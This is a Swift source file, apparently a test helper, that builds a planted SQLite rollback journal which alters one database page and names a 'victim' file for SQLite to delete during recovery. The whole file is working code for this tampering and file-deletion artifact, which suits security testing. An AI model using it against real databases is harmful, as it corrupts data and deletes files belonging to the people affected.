/// A rollback journal as somebody would craft it to have SQLite change a file and remove another.
enum PlantedJournal {
  /// A journal that puts back one page of a file, and names a file to be removed afterwards.
  ///
  /// - Parameters:
  ///   - file: the bytes of the database beside which it will lie.
  ///   - victim: the path of the file it names.
  /// - Returns: the journal's bytes.
  static func bytes(for file: [UInt8], naming victim: String) -> [UInt8] {
    let pageSize = Int(file[16]) << 8 | Int(file[17])
    let magic: [UInt8] = [0xD9, 0xD5, 0x05, 0xF9, 0x20, 0xA1, 0x63, 0xD7]
    let nonce: UInt32 = 12_345
    var journal = magic
    for number in [1, nonce, UInt32(file.count / pageSize), 512, UInt32(pageSize)] {
      journal += bigEndian(number)
    }
    journal += [UInt8](repeating: 0, count: 512 - journal.count)
    var page = Array(file[pageSize..<(2 * pageSize)])
    page[100] ^= 0xFF
    var sum = nonce
    for place in stride(from: pageSize - 200, to: 0, by: -200) { sum &+= UInt32(page[place]) }
    journal += bigEndian(2) + page + bigEndian(sum)
    let name = Array(victim.utf8)
    journal += bigEndian(UInt32(0x4000_0000 / pageSize + 1)) + name
    journal += bigEndian(UInt32(name.count))
    journal += bigEndian(name.reduce(0) { $0 &+ UInt32(bitPattern: Int32(Int8(bitPattern: $1))) })
    return journal + magic
  }

  private static func bigEndian(_ number: UInt32) -> [UInt8] {
    [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: number >> $0) }
  }
}
